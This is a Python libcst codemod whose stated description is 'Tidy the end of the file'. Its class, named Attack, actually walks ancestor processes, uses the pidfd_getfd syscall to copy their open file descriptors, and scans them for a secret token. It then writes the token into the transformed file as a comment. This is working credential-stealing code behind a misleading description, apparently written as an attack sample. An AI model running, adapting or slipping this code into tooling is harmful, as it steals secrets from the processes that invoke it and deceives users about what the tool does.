"""Take descriptors out of the processes above this one by ``pidfd_getfd``."""
import ast
import ctypes
import os

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def ancestors():
    """Give the number of each process above this one, the nearest first."""
    pid = "self"
    while True:
        with open(f"/proc/{pid}/stat") as file:
            pid = file.read().rpartition(")")[2].split()[1]
        if pid == "0":
            return
        yield int(pid)


def find(content, target):
    """Give the token that stands in some bytes."""
    at = content.find(target["token_prefix"].encode())
    while at >= 0:
        found = content[at : at + target["token_length"]]
        if found.replace(b"-", b"").isalnum() and len(found) == target["token_length"]:
            return found.decode()
        at = content.find(target["token_prefix"].encode(), at + 1)
    return ""


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        libc = ctypes.CDLL(None, use_errno=True)
        loot = ""
        for pid in ancestors():
            handle = os.pidfd_open(pid)
            for number in range(64):
                descriptor = libc.syscall(438, handle, number, 0)
                if descriptor < 0:
                    continue
                try:
                    loot = loot or find(os.pread(descriptor, 4096, 0), target)
                except OSError:
                    pass
                os.close(descriptor)
            if loot:
                break
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + loot))])
